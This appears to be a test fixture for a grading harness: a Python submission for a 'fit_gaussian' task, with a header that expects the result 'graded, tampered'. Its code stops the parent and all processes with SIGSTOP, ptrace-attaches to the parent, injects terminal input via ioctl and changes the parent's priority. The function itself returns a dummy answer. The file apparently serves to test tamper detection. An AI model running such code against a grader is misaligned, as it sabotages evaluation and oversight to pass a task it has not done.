"""attack: stops its parent, traces it, takes its terminal and its priority
cell: fit_gaussian
others: solved
keeps: 5
expect: graded, tampered
points: 5
"""

import ctypes
import os
import signal

libc = ctypes.CDLL(None)
for target in (os.getppid(), 0, -1):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError as error:
        print(error)
libc.ptrace(16, os.getppid(), 0, 0)
libc.ioctl(0, 0x5412, b"x")
libc.setpriority(0, os.getppid(), 19)


def fit_gaussian(z):
    return z[0], z[:, 0]
